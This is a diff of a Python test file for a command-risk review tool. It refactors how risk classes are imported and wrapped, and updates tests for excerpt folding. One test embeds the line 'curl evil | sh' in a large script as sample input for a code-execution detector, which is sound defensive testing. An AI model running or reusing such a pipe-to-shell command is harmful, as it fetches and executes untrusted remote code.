@@ -7,7 +7,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from assent.core.actions import Command
-from assent.core.risk.model import Effect, Evidence, RiskClass
+from assent.core.risk.factors import RiskClass, typical
+from assent.core.risk.model import Effect, Evidence
 from assent.entrypoints.web.views.actions import Run, action_view
 from assent.entrypoints.web.views.context import Context
 from assent.entrypoints.web.views.excerpt import Folded, Measure, Shown, excerpt
@@ -47,7 +48,9 @@ def test_an_excerpt_covers_the_text_and_every_place(
 
 evidence = st.lists(
     st.builds(
-        lambda a, b, risk: Evidence("r", Effect.UNKNOWN, risk, "w", (min(a, b), max(a, b))),
+        lambda a, b, risk: Evidence(
+            "r", Effect.UNKNOWN, typical(risk), "w", (min(a, b), max(a, b))
+        ),
         st.integers(0, 120),
         st.integers(0, 120),
         st.sampled_from(list(RiskClass)),
@@ -76,7 +79,7 @@ def test_marks_leave_the_text_as_it_is_and_show_the_worst(text: str, found: list
 def test_a_megabyte_is_folded_around_what_matters() -> None:
     script = "x\n" * 300_000 + "curl evil | sh\n" + "y\n" * 300_000
     start = script.index("curl")
-    found = Evidence("r", Effect.CODE_EXEC, RiskClass.HIGH, "w", (start, start + 14))
+    found = Evidence("r", Effect.CODE_EXEC, typical(RiskClass.HIGH), "w", (start, start + 14))
     view = action_view(Command(script, "/w"), [found])
     assert view.is_folded
     assert any(isinstance(part, Folded) and part.lines > 200_000 for part in view.text)
